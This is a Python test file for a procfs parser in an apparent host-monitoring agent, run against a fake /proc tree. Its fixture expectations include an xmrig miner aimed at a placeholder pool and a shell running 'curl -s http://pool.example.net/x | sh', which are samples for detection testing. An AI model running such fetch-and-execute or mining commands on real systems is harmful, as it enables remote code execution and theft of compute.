"""The procfs parsers (pure) and ProcFS over the fake host in tests/fixtures/proc.

See tests/fixtures/README.md for what each fixture pid is for.
"""

from __future__ import annotations

import os
import shutil
from pathlib import Path

import pytest

from agent.enrich.workspace import DEFAULT_MARKERS
from agent.errors import ProcessGone
from agent.sources.cmdline import HEAD, TAIL
from agent.sources.procfs import (
    ENVIRON_LIMIT,
    ProcFS,
    Stat,
    parse_cmdline,
    parse_netns,
    parse_stat,
    parse_status_uid,
)

FIXTURE = Path(__file__).resolve().parents[1] / "fixtures" / "proc"
SECRET = "hunter2"
HOST_NS = 4026531840
DOCKER_ID = "59de2a815200d473ab0a078bdcee0b8bc80aca90c1df285f4ecfdbca5566c2cd"
K8S_ID = "d8909a4e1b423fe77fef16afc7c75b201ad1c9f557c0e571225e927b7a338a9c"
CRIO_ID = "9d5128d60fc8700442dedc0ff1aee26728830447b2144dc9851f3f6b1c9695be"
ALL_PIDS = [1, 2, 57, 123, 124, 410, 700, 800, 1201, 1250, 1302, 1400, 1401, 1990, 2001, 2090,
            2101, 2201]
BIG_ENV_PID = 700


def big_environ() -> bytes:
    """1 MiB of environment whose last entries are a secret and the workspace marker."""
    tail = f"AWS_SECRET_ACCESS_KEY={SECRET}\0WORKSPACE_ID=ws-big\0".encode()
    body = b"".join(b"FILLER_%05d=%s\0" % (i, b"x" * 200) for i in range(4000))
    pad = (1 << 20) - len(body) - len(tail) - len(b"PAD=\0")
    assert pad > 0
    data = body + b"PAD=" + b"y" * pad + b"\0" + tail
    assert len(data) == 1 << 20
    return data


def copy_fixture(dst: Path) -> Path:
    """The committed tree plus the generated 1 MiB environ of pid 700."""
    shutil.copytree(FIXTURE, dst, symlinks=True)
    (dst / str(BIG_ENV_PID) / "environ").write_bytes(big_environ())
    return dst


@pytest.fixture(scope="session")
def host(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A read-only copy of the fixture host (tests must not modify it)."""
    return copy_fixture(tmp_path_factory.mktemp("host") / "proc")


@pytest.fixture
def scratch(tmp_path: Path) -> Path:
    """A private copy of the fixture host a test may break."""
    return copy_fixture(tmp_path / "proc")


def stat_line(pid: int | bytes, comm: bytes, state: str = "S", ppid: int = 1,
              flags: int = 4194560, starttime: int = 4242) -> bytes:
    """A 52-field stat line, as the kernel prints it."""
    fields = [b"%d" % pid if isinstance(pid, int) else pid, b"(" + comm + b")", state.encode(),
              b"%d" % ppid, b"7", b"7", b"0", b"-1", b"%d" % flags]
    fields += [b"0"] * 12  # fields 10..21
    fields += [b"%d" % starttime]  # field 22
    fields += [b"1"] * 30  # fields 23..52
    assert len(fields) == 52
    return b" ".join(fields) + b"\n"


def expected_uid(root: Path, pid: int, status_uid: int | None) -> int:
    """The uid ProcFS must report: `status` is consulted only for root-owned pid dirs."""
    owner = os.stat(root / str(pid)).st_uid
    if owner == 0 and status_uid is not None:
        return status_uid
    return owner


def expected_dev_ino(target: str) -> tuple[int, int]:
    try:
        st = os.stat(target)
    except OSError:
        return 0, 0
    return st.st_dev, st.st_ino


# -- parse_stat ---------------------------------------------------------------------------

REAL_SYSTEMD = (b"1 (systemd) S 0 1 1 0 -1 4194560 52174 1851283 110 1577 173 306 4459 2541 20 0"
                b" 1 0 9 172236800 3319 18446744073709551615 1 1 0 0 0 0 671173123 4096 1260"
                b" 0 0 0 17 0 0 0 0 0 0 0 0 0 0 0 0 0 0\n")


@pytest.mark.parametrize(("line", "want"), [
    pytest.param(REAL_SYSTEMD, Stat(1, "systemd", "S", 0, 4194560, 9), id="real-systemd"),
    pytest.param(stat_line(123, b"a) (b"), Stat(123, "a) (b", "S", 1, 4194560, 4242), id="a) (b"),
    pytest.param(stat_line(5, b"x) (y z) 1 2", ppid=77, starttime=99),
                 Stat(5, "x) (y z) 1 2", "S", 77, 4194560, 99), id="fake-fields-in-comm"),
    pytest.param(stat_line(124, b"evil\nname", state="R"),
                 Stat(124, "evil\nname", "R", 1, 4194560, 4242), id="newline"),
    pytest.param(stat_line(6, b"Web Content", ppid=3),
                 Stat(6, "Web Content", "S", 3, 4194560, 4242), id="spaces"),
    pytest.param(stat_line(7, b"(("), Stat(7, "((", "S", 1, 4194560, 4242), id="open-parens"),
    pytest.param(stat_line(8, b")"), Stat(8, ")", "S", 1, 4194560, 4242), id="close-paren"),
    pytest.param(stat_line(9, b""), Stat(9, "", "S", 1, 4194560, 4242), id="empty-comm"),
    pytest.param(stat_line(10, b"caf\xe9\xff"), Stat(10, "caf\udce9\udcff", "S", 1, 4194560, 4242),
                 id="invalid-utf8"),
    pytest.param(stat_line(11, "naïve".encode()), Stat(11, "naïve", "S", 1, 4194560, 4242),
                 id="utf8"),
    pytest.param(stat_line(1250, b"make", state="Z", ppid=1201, starttime=60500),
                 Stat(1250, "make", "Z", 1201, 4194560, 60500), id="zombie"),
    pytest.param(stat_line(2, b"kthreadd", ppid=0, flags=0x208040, starttime=9),
                 Stat(2, "kthreadd", "S", 0, 0x208040, 9), id="kthread"),
    pytest.param(stat_line(4194304, b"big", ppid=4194303, starttime=2**63),
                 Stat(4194304, "big", "S", 4194303, 4194560, 2**63), id="large-numbers"),
    pytest.param(stat_line(12, b"x")[:-1], Stat(12, "x", "S", 1, 4194560, 4242), id="no-newline"),
])
def test_parse_stat(line, want):
    assert parse_stat(line) == want


@pytest.mark.parametrize("line", [
    pytest.param(b"", id="empty"),
    pytest.param(b"garbage", id="garbage"),
    pytest.param(b"\n", id="newline"),
    pytest.param(b"1 (init", id="unclosed-comm"),
    pytest.param(b"1 )init( S 0 1 1 0 -1 4194560 0 0 0 0 0 0 0 0 20 0 1 0 9 1 2 3",
                 id="reversed-parens"),
    pytest.param(b"1 (init) S 0 1 1 0 -1 4194560", id="short"),
    pytest.param(stat_line(1, b"x").rsplit(b" ", 33)[0], id="cut-before-starttime"),
    pytest.param(b"(init) " + stat_line(1, b"x").split(b") ", 1)[1], id="no-pid"),
    pytest.param(stat_line(b"pid", b"x"), id="pid-not-a-number"),
    pytest.param(stat_line(1, b"x").replace(b" S 1 ", b" S one "), id="ppid-not-a-number"),
    pytest.param(stat_line(1, b"x").replace(b" 4242 ", b" 4242x "), id="starttime-not-a-number"),
    pytest.param(b"\xff\xfe (x) " + b"1 " * 60, id="binary-pid"),
])
def test_parse_stat_rejects_what_is_not_a_stat_line(line):
    with pytest.raises(ValueError):
        parse_stat(line)


def test_fixture_stat_lines_are_complete_kernel_lines():
    """Guards the fixture itself: 52 fields after the comm-aware split, newline-terminated."""
    for pid in ALL_PIDS:
        data = (FIXTURE / str(pid) / "stat").read_bytes()
        assert data.endswith(b"\n")
        after_comm = data[data.rfind(b")") + 2:].split()
        assert len(after_comm) == 50, pid
        assert parse_stat(data).pid == pid


# -- parse_cmdline ------------------------------------------------------------------------

@pytest.mark.parametrize(("data", "want"), [
    pytest.param(b"/usr/bin/python3\0-m\0http.server\0", ("/usr/bin/python3", "-m", "http.server"),
                 id="trailing-nul"),
    pytest.param(b"/usr/bin/python3\0-m\0http.server", ("/usr/bin/python3", "-m", "http.server"),
                 id="no-trailing-nul"),
    pytest.param(b"sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups",
                 ("sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups",), id="setproctitle"),
    pytest.param(b"", (), id="empty"),
    pytest.param(b"sh\0-c\0echo hi there\0", ("sh", "-c", "echo hi there"), id="spaces-in-arg"),
    pytest.param(b"a\0\0b\0", ("a", "", "b"), id="empty-arg-kept"),
    pytest.param(b"caf\xe9\0\xff\xfe\0", ("caf\udce9", "\udcff\udcfe"), id="invalid-utf8"),
    pytest.param("naïve\0日本\0".encode(), ("naïve", "日本"), id="utf8"),
    pytest.param(b"x\nnewline\0", ("x\nnewline",), id="newline-in-arg"),
])
def test_parse_cmdline(data, want):
    assert parse_cmdline(data) == want


# -- parse_netns / parse_status_uid -------------------------------------------------------

@pytest.mark.parametrize(("link", "want"), [
    ("net:[4026531840]", 4026531840),
    ("net:[4026532501]", 4026532501),
    ("mnt:[4026531841]", 4026531841),
    ("", 0),
    ("net:[]", 0),
    ("net:[abc]", 0),
    ("net:4026531840", 0),
    ("net:[4026531840", 0),
    ("4026531840]", 0),
    ("/proc/self/ns/net", 0),
])
def test_parse_netns(link, want):
    assert parse_netns(link) == want


STATUS = (b"Name:\tsudo\nUmask:\t0022\nState:\tS (sleeping)\nTgid:\t4000\nPid:\t4000\nPPid:\t1201\n"
          b"TracerPid:\t0\nUid:\t%s\nGid:\t1000\t1000\t1000\t1000\nFDSize:\t64\n")


@pytest.mark.parametrize(("uid_line", "want"), [
    pytest.param(b"1000\t1000\t1000\t1000", 1000, id="plain"),
    pytest.param(b"0\t0\t0\t0", 0, id="root"),
    pytest.param(b"1000\t0\t0\t0", 0, id="setuid-root: effective, not real"),
    pytest.param(b"0\t1001\t1001\t1001", 1001, id="dropped-privileges"),
    pytest.param(b"4294967294\t65534\t65534\t65534", 65534, id="nobody"),
])
def test_parse_status_uid_is_the_effective_uid(uid_line, want):
    assert parse_status_uid(STATUS % uid_line) == want


@pytest.mark.parametrize("data", [
    pytest.param(b"", id="empty"),
    pytest.param(b"Name:\tx\nGid:\t0\t0\t0\t0\n", id="no-uid-line"),
    pytest.param(STATUS % b"root\troot\troot\troot", id="names-not-numbers"),
    pytest.param(b"Name:\tx\nRuid:\t5\t5\n", id="similar-key"),
])
def test_parse_status_uid_rejects_status_without_a_uid(data):
    with pytest.raises(ValueError):
        parse_status_uid(data)


def test_parse_status_uid_when_uid_is_the_last_line_without_newline():
    assert parse_status_uid(b"Name:\tx\nUid:\t0\t1000") == 1000


def test_parse_status_uid_with_a_short_uid_line_is_a_value_error():
    with pytest.raises(ValueError):
        parse_status_uid(b"Name:\tx\nUid:\t5\n")


def test_numeric_entry_that_is_not_a_directory_is_skipped(tmp_path):
    (tmp_path / "77").write_text("not a pid dir")
    (tmp_path / "²").mkdir()
    fs = ProcFS(str(tmp_path))
    assert fs.pids() == [77]
    with pytest.raises(ProcessGone):
        fs.read(77)


# -- ProcFS over the fixture host ---------------------------------------------------------

def test_pids_lists_process_directories_only_in_ascending_order(host):
    assert ProcFS(str(host)).pids() == ALL_PIDS
    assert ProcFS(str(host) + "/").pids() == ALL_PIDS


# pid: (comm, ppid, starttime, state, cmdline, exe, container_id, netns, status uid)
EXPECTED = {
    1: ("systemd", 0, 9, "S", ("/sbin/init", "splash"), "/usr/lib/systemd/systemd", "", HOST_NS, 0),
    123: ("a) (b", 1, 2400, "S", ("./a) (b",), "/opt/odd/a) (b", "", HOST_NS, 0),
    124: ("evil\nname", 1, 2401, "S", ("./evil\nname",), "/opt/odd/evil\nname", "", HOST_NS, 0),
    410: ("sshd", 1, 1800, "S", ("sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups",),
          "/usr/sbin/sshd", "", HOST_NS, 0),
    700: ("bigenv", 1201, 61000, "S", ("/usr/bin/bigenv",), "/usr/bin/bigenv", "", HOST_NS, 1000),
    800: ("bare", 1, 62000, "S", (), "", "", 0, None),
    1201: ("bash", 410, 60000, "S", ("-bash",), "/usr/bin/bash", "", HOST_NS, 1000),
    1250: ("make", 1201, 60500, "Z", (), "", "", HOST_NS, 1000),
    1302: ("node", 1201, 60100, "S", ("/usr/bin/node", "/opt/ide/server.js", "--port", "3000"),
           "/usr/bin/node", "", HOST_NS, 1000),
    1400: ("xmrig", 1302, 60200, "S",
           ("/tmp/xmrig", "-o", "pool.example.net:3333", "--donate-level=1"),
           "/tmp/xmrig", "", HOST_NS, 1000),
    1401: ("sh", 1400, 60300, "S", ("sh", "-c", "curl -s http://pool.example.net/x | sh"),
           "/usr/bin/dash", "", HOST_NS, 1000),
    1990: ("containerd-shim", 1, 3000, "S",
           ("/usr/bin/containerd-shim-runc-v2", "-namespace", "moby", "-id", DOCKER_ID),
           "/usr/bin/containerd-shim-runc-v2", "", HOST_NS, 0),
    2001: ("nginx", 1990, 3100, "S", ("nginx: master process nginx -g daemon off;",),
           "/usr/sbin/nginx", DOCKER_ID, 4026532501, 0),
    2090: ("containerd-shim", 1, 4000, "S",
           ("/usr/bin/containerd-shim-runc-v2", "-namespace", "k8s.io", "-id", K8S_ID),
           "/usr/bin/containerd-shim-runc-v2", "", HOST_NS, 0),
    2101: ("java", 2090, 4100, "S", ("java", "-jar", "/app/app.jar"), "/opt/java/openjdk/bin/java",
           K8S_ID, 4026532601, 0),
    2201: ("redis-server", 1, 5100, "S", ("redis-server *:6379",), "/usr/local/bin/redis-server",
           CRIO_ID, 4026532701, 999),
}


@pytest.mark.parametrize("pid", sorted(EXPECTED))
def test_read_user_processes(host, pid):
    comm, ppid, starttime, state, cmdline, exe, cid, netns, status_uid = EXPECTED[pid]
    p = ProcFS(str(host)).read(pid)
    assert (p.pid, p.comm, p.ppid, p.starttime, p.state) == (pid, comm, ppid, starttime, state)
    assert p.cmdline == cmdline
    assert p.exe == exe
    assert p.container_id == cid
    assert p.netns == netns
    assert p.kthread is False
    assert p.uid == expected_uid(host, pid, status_uid)
    assert (p.exe_dev, p.exe_ino) == (expected_dev_ino(exe) if exe else (0, 0))


def test_read_identity_changes_with_the_executable(host):
    """Two reads of the same process give the same id; the id is the model's identity."""
    procfs = ProcFS(str(host))
    a, b = procfs.read(1302), procfs.read(1302)
    assert a.id == b.id
    assert a.id != procfs.read(1201).id


@pytest.mark.parametrize(("pid", "comm", "ppid"),
                         [(2, "kthreadd", 0), (57, "kworker/0:1-events", 2)])
def test_kernel_threads_are_flagged_and_not_read_further(host, pid, comm, ppid):
    p = ProcFS(str(host)).read(pid)
    assert p.kthread is True
    assert (p.comm, p.ppid, p.uid) == (comm, ppid, 0)
    assert (p.exe, p.cmdline, p.container_id) == ("", (), "")
    # the fixture kthreads do have an ns/net link: the reader returned before reading it
    assert os.readlink(host / str(pid) / "ns" / "net") == f"net:[{HOST_NS}]"
    assert p.netns == 0


def test_user_process_with_kthread_like_name_is_not_a_kernel_thread(scratch):
    (scratch / "800" / "stat").write_bytes(stat_line(800, b"kworker/0:1", flags=4194560))
    assert ProcFS(str(scratch)).read(800).kthread is False


def test_zombie_has_no_cmdline_and_no_exe(host):
    p = ProcFS(str(host)).read(1250)
    assert p.state == "Z"
    assert (p.cmdline, p.exe, p.exe_dev, p.exe_ino) == ((), "", 0, 0)
    assert p.exe_name == "make"  # falls back to comm
    assert p.kthread is False


def test_exe_that_does_not_exist_gives_zero_dev_and_inode(scratch):
    exe = scratch / "1400" / "exe"
    exe.unlink()
    exe.symlink_to("/nonexistent/nodewarden-test/xmrig")
    p = ProcFS(str(scratch)).read(1400)
    assert p.exe == "/nonexistent/nodewarden-test/xmrig"
    assert p.exe_name == "xmrig"
    assert (p.exe_dev, p.exe_ino) == (0, 0)


def test_exe_that_exists_gives_its_dev_and_inode(scratch, tmp_path):
    binary = tmp_path / "xmrig"
    binary.write_bytes(b"\x7fELF")
    exe = scratch / "1400" / "exe"
    exe.unlink()
    exe.symlink_to(binary)
    p = ProcFS(str(scratch)).read(1400)
    st = os.stat(binary)
    assert (p.exe, p.exe_dev, p.exe_ino) == (str(binary), st.st_dev, st.st_ino)


def test_deleted_exe_keeps_its_name(scratch):
    exe = scratch / "1400" / "exe"
    exe.unlink()
    exe.symlink_to("/tmp/xmrig (deleted)")
    p = ProcFS(str(scratch)).read(1400)
    assert p.exe == "/tmp/xmrig (deleted)"
    assert p.exe_name == "xmrig"


def test_missing_optional_files_degrade_to_empty_values(host):
    p = ProcFS(str(host)).read(800)
    assert (p.comm, p.ppid, p.starttime) == ("bare", 1, 62000)
    assert (p.cmdline, p.exe, p.exe_dev, p.exe_ino) == ((), "", 0, 0)
    assert (p.container_id, p.netns) == ("", 0)
    assert p.uid == os.stat(host / "800").st_uid
    assert p.exe_name == "bare"


def test_unreadable_status_falls_back_to_the_directory_owner(scratch):
    (scratch / "1201" / "status").write_bytes(b"Name:\tbash\nUid:\tgarbage\n")
    assert ProcFS(str(scratch)).read(1201).uid == os.stat(scratch / "1201").st_uid


def test_status_is_the_uid_source_for_root_owned_directories(scratch):
    (scratch / "1201" / "status").write_bytes(STATUS % b"1000\t4321\t4321\t4321")
    owner = os.stat(scratch / "1201").st_uid
    assert ProcFS(str(scratch)).read(1201).uid == (4321 if owner == 0 else owner)


def test_an_over_long_cmdline_keeps_its_head_and_its_tail(scratch):
    huge = (b"A" * 1000 + b"\0") * 1000 + b"-o\0stratum+tcp://pool.example:3333\0"
    (scratch / "1302" / "cmdline").write_bytes(huge)
    p = ProcFS(str(scratch)).read(1302)
    assert 0 < len("\0".join(p.cmdline)) <= HEAD + TAIL
    assert p.cmdline[0] == "A" * 1000
    assert p.cmdline[-2:] == ("-o", "stratum+tcp://pool.example:3333")
    assert p.cmdline_truncated and p.cmdline_cut == len(huge) - HEAD - TAIL
    assert p.to_json()["cmdline_truncated"] is True


@pytest.mark.parametrize("pid", [99999, 0])
def test_vanished_pid_is_process_gone(host, pid):
    procfs = ProcFS(str(host))
    with pytest.raises(ProcessGone) as exc:
        procfs.read(pid)
    assert exc.value.pid == pid
    with pytest.raises(ProcessGone):
        procfs.stat(pid)
    assert procfs.environ_marker(pid, DEFAULT_MARKERS) is None


def test_pid_dir_removed_after_open_is_process_gone(scratch):
    """The exit-mid-read case: files are read through the directory fd, so a directory that
    goes away after it was opened raises ProcessGone instead of reading something else."""

    class ExitsAfterOpen(ProcFS):
        def _open(self, pid: int) -> int:
            dfd = super()._open(pid)
            shutil.rmtree(f"{self.root}/{pid}")
            return dfd

    with pytest.raises(ProcessGone):
        ExitsAfterOpen(str(scratch)).read(1302)


def test_pid_reused_after_open_is_not_mixed_in(scratch):
    """A new process dir under the same pid after the old one was opened: the reader keeps
    reading the old (deleted) directory, never the new one's files."""

    class ReusedAfterOpen(ProcFS):
        def _open(self, pid: int) -> int:
            dfd = super()._open(pid)
            d = Path(f"{self.root}/{pid}")
            shutil.rmtree(d)
            d.mkdir()
            (d / "stat").write_bytes(stat_line(pid, b"impostor", starttime=1))
            (d / "cmdline").write_bytes(b"impostor\0")
            return dfd

    with pytest.raises(ProcessGone):
        ReusedAfterOpen(str(scratch)).read(1302)


@pytest.mark.parametrize("content", [b"", b"garbage\n", b"1302 (node"])
def test_unparseable_stat_is_process_gone(scratch, content):
    (scratch / "1302" / "stat").write_bytes(content)
    procfs = ProcFS(str(scratch))
    with pytest.raises(ProcessGone):
        procfs.read(1302)
    with pytest.raises(ProcessGone):
        procfs.stat(1302)


def test_missing_stat_is_process_gone(scratch):
    (scratch / "1302" / "stat").unlink()
    with pytest.raises(ProcessGone):
        ProcFS(str(scratch)).read(1302)


def test_stat_gives_identity_fields(host):
    st = ProcFS(str(host)).stat(123)
    assert (st.pid, st.comm, st.ppid, st.starttime, st.state) == (123, "a) (b", 1, 2400, "S")


# -- environ markers ----------------------------------------------------------------------

def test_environ_marker_of_workspace_root(host):
    assert ProcFS(str(host)).environ_marker(1302, DEFAULT_MARKERS) == ("WORKSPACE_ID", "ws-fixture")


def test_environ_marker_in_the_last_entries_of_a_1mib_environ(host):
    assert (host / str(BIG_ENV_PID) / "environ").stat().st_size == 1 << 20
    got = ProcFS(str(host)).environ_marker(BIG_ENV_PID, DEFAULT_MARKERS)
    assert got == ("WORKSPACE_ID", "ws-big")


def test_environ_past_the_read_limit_is_not_searched(scratch):
    filler = b"F=" + b"z" * ENVIRON_LIMIT + b"\0"
    (scratch / "1302" / "environ").write_bytes(filler + b"WORKSPACE_ID=ws-late\0")
    assert ProcFS(str(scratch)).environ_marker(1302, DEFAULT_MARKERS) is None


@pytest.mark.parametrize("pid", [
    pytest.param(1, id="no-environ-file(pid 1)"),
    pytest.param(2, id="kernel-thread"),
    pytest.param(800, id="bare"),
    pytest.param(1250, id="zombie"),
])
def test_environ_marker_without_environ_is_none(host, pid):
    assert ProcFS(str(host)).environ_marker(pid, DEFAULT_MARKERS) is None


@pytest.mark.parametrize("pid", [410, 1201, 1401, 2001])
def test_environ_marker_without_marker_is_none(host, pid):
    assert ProcFS(str(host)).environ_marker(pid, DEFAULT_MARKERS) is None


def test_environ_marker_uses_the_configured_markers(host):
    procfs = ProcFS(str(host))
    assert procfs.environ_marker(1302, ("GITPOD_WORKSPACE_ID",)) is None
    assert procfs.environ_marker(1302, ()) is None


def test_read_never_carries_environ_values(host):
    for pid in ALL_PIDS:
        p = ProcFS(str(host)).read(pid)
        assert SECRET not in repr(p)
        assert "ws-fixture" not in repr(p)


def _thread_exited_leader(root: Path, binary: Path, live_state: str = "S") -> int:
    """/proc/PID of a process whose main thread called pthread_exit: the leader is a zombie
    with no cmdline, exe or environ; its second thread runs on (issue 13 defect 5)."""
    pid, tid = 3000, 3001
    d = root / str(pid)
    (d / "task" / str(tid)).mkdir(parents=True)
    (d / "task" / str(pid)).mkdir()
    for t in (d, d / "task" / str(pid)):
        (t / "stat").write_bytes(stat_line(pid, b"kworker", state="Z", ppid=1, flags=0x400040))
        (t / "cmdline").write_bytes(b"")
    live = d / "task" / str(tid)
    (live / "stat").write_bytes(stat_line(tid, b"kworker", state=live_state, ppid=1))
    (live / "cmdline").write_bytes(b"./kworker\0-o\0stratum+tcp://pool:3333\0")
    (live / "exe").symlink_to(binary)
    (live / "environ").write_bytes(b"HOME=/home/t\0WORKSPACE_ID=ws-red\0")
    return pid


def test_a_process_whose_leader_exited_is_read_through_a_live_thread(scratch, tmp_path):
    binary = tmp_path / "kworker"
    binary.write_bytes(b"\x7fELF")
    pid = _thread_exited_leader(scratch, binary)
    fs = ProcFS(str(scratch))
    p = fs.read(pid)
    assert (p.pid, p.starttime, p.state) == (pid, 4242, "S")
    assert p.cmdline == ("./kworker", "-o", "stratum+tcp://pool:3333")
    assert (p.exe, p.exe_ino) == (str(binary), os.stat(binary).st_ino)
    assert fs.environ_marker(pid, DEFAULT_MARKERS) == ("WORKSPACE_ID", "ws-red")


def test_a_process_whose_threads_all_exited_is_a_zombie(scratch, tmp_path):
    pid = _thread_exited_leader(scratch, tmp_path / "gone", live_state="Z")
    p = ProcFS(str(scratch)).read(pid)
    assert (p.state, p.cmdline, p.exe) == ("Z", (), "")


# -- the first scan's inline paths (issue 10, target 7) say what the plain parsers say ------

HOSTILE_STATS = [REAL_SYSTEMD, stat_line(123, b"a) (b"), stat_line(5, b"x) (y z) 1 2"),
                 stat_line(124, b"evil\nname", state="R"), stat_line(7, b"(("),
                 stat_line(8, b")"), stat_line(9, b""), stat_line(10, b"caf\xe9\xff"),
                 stat_line(1250, b"make", state="Z"), stat_line(13, b"w", state="?"),
                 stat_line(2, b"kthreadd", ppid=0, flags=0x208040, starttime=9)]


@pytest.mark.parametrize("line", HOSTILE_STATS)
def test_parse_stat_and_program_is_parse_stat_and_the_program_key(line):
    from agent.sources.procfs import parse_stat_program
    from agent.sources.procfs.parse import parse_stat_and_program
    st, program = parse_stat_and_program(line)
    assert st == parse_stat(line)
    assert type(st.state) is str
    assert program == parse_stat_program(line)[1]


@pytest.mark.parametrize("line", [b"", b"garbage", b"1 (init", b"1 (init) S 0 1 1 0 -1 4194560",
                                  stat_line(b"pid", b"x"), b"\xff\xfe (x) " + b"1 " * 60])
def test_parse_stat_and_program_rejects_what_parse_stat_rejects(line):
    from agent.sources.procfs.parse import parse_stat_and_program
    with pytest.raises(ValueError):
        parse_stat_and_program(line)


def test_the_reader_builds_a_process_in_the_order_of_its_fields(host):
    """reader.py makes a Process positionally (a keyword call costs a third more): a field
    added or moved in agent/model.py must fail here, not fill the wrong field."""
    import dataclasses

    from agent.model import Process
    assert [f.name for f in dataclasses.fields(Process) if f.init] == [
        "pid", "ppid", "starttime", "comm", "exe", "cmdline", "cmdline_cut", "uid", "state",
        "kthread", "exe_dev", "exe_ino", "container_id", "netns", "pod_uid"]
    p = ProcFS(str(host)).read(123)
    assert (p.comm, p.ppid, p.state, p.kthread, p.cmdline, p.exe) == (
        "a) (b", 1, "S", False, ("./a) (b",), "/opt/odd/a) (b")


@pytest.mark.parametrize(("environ", "want"), [
    (b"PATH=/bin\0HOME=/root\0", None),
    (b"XWORKSPACE_ID=ws-x\0", None),                       # the name inside another one
    (b"A=WORKSPACE_ID=ws-x\0", None),                      # ... or inside a value
    (b"A=WORKSPACE_ID=ws-x\0WORKSPACE_ID=ws-y\0", ("WORKSPACE_ID", "ws-y")),
    (b"WORKSPACE_ID=\0GITPOD_WORKSPACE_ID=gp\0", ("GITPOD_WORKSPACE_ID", "gp")),
    (b"WORKSPACE_ID=ws-1", ("WORKSPACE_ID", "ws-1")),      # cut: no closing NUL
])
def test_environ_marker_answers_as_find_marker(tmp_path, environ, want):
    from agent.enrich.workspace import find_marker
    (tmp_path / "77").mkdir()
    (tmp_path / "77" / "environ").write_bytes(environ)
    fs = ProcFS(str(tmp_path))
    assert find_marker(environ, DEFAULT_MARKERS) == want
    assert fs.environ_marker(77, DEFAULT_MARKERS) == want
    assert fs.environ_marker(77, list(DEFAULT_MARKERS)) == want  # an unhashable sequence
